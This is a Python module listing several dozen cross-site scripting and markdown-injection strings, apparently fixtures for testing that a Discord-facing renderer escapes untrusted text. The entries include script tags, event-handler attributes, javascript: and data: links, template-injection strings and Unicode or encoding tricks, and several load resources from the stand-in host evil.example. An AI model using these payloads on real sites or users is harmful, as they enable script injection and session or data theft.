"""Texts that would run as a script where a page took them for markup; each sets `hacked`, or asks another host."""

from __future__ import annotations

INJECTIONS: tuple[str, ...] = (
    "<script>window.hacked=1</script>", "<ScRiPt/x>hacked=1</sCrIpT >", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.hacked=1>", "<img src=//evil.example/x.png>", "<svg/onload=window.hacked=1>",
    "<svg><animate onbegin=hacked=1 attributeName=x>", "<svg><use href='//evil.example/x.svg#x'></svg>",
    "<math><mi xlink:href='javascript:hacked=1'>x</mi></math>", "<body onload=hacked=1>",
    "<iframe src='javascript:parent.hacked=1'></iframe>", "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<object data='data:text/html,<script>parent.hacked=1</script>'>", "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css';*{display:none}</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x", "<a href=javascript:hacked=1 autofocus onfocus=hacked=1>x</a>",
    "<details open ontoggle=hacked=1>x", "<input onfocus=hacked=1 autofocus>", "<video><source onerror=hacked=1>",
    "<template><script>hacked=1</script></template>", "</title></textarea></style></script><script>hacked=1</script>",
    "\"><script>hacked=1</script>", "' onmouseover='hacked=1' x='", '" style="background:url(//evil.example/x)" x="',
    "&lt;img src=x onerror=hacked=1&gt;", "&#60;script&#62;hacked=1&#60;/script&#62;",
    "\\u003cscript>hacked=1</script>",
    "<!--><script>hacked=1</script>-->", "<![CDATA[<script>hacked=1</script>]]>",
    "<noscript><p title='</noscript><img>",
    "{{constructor.constructor('hacked=1')()}}", "${window.hacked=1}", "`${hacked=1}`", "__proto__", "constructor",
    "javascript:window.hacked=1", "[x](javascript:window.hacked=1)", "[x](java\tscript:hacked=1)",
    "[x](JaVaScRiPt:hacked=1)",
    "[x](data:text/html,<script>hacked=1</script>)", "[x](vbscript:hacked=1)", "<javascript:hacked=1>",
    "[x](https://example.org/\"onmouseover=\"hacked=1)", "[x](https://example.org 'onclick=hacked=1')",
    "[x](//evil.example)", "[x](blob:hacked)", "[x](file:///etc/passwd)", "![x](https://evil.example/x.png)",
    "```html\n<script>hacked=1</script>\n```", "`<img src=x onerror=hacked=1>`", "||<svg onload=hacked=1>||",
    "> <img src=x onerror=hacked=1>", "**<b onclick=hacked=1>x</b>**", "<t:1:<img src=x onerror=hacked=1>>",
    "</<img src=x onerror=hacked=1>:1>", "<:<img src=x onerror=hacked=1>:1>", "<@<script>hacked=1</script>>",
    "\x00<script>hacked=1</script>", "＜script＞hacked=1＜/script＞", "\u202e<script>hacked=1</script>",
    "<\u200bscript>hacked=1</script>", "<img\x0bsrc=x\x0conerror=hacked=1>",
)  # fmt: skip
"""Everything is written so that it would also run without its end, where a limit of Discord's cuts it."""
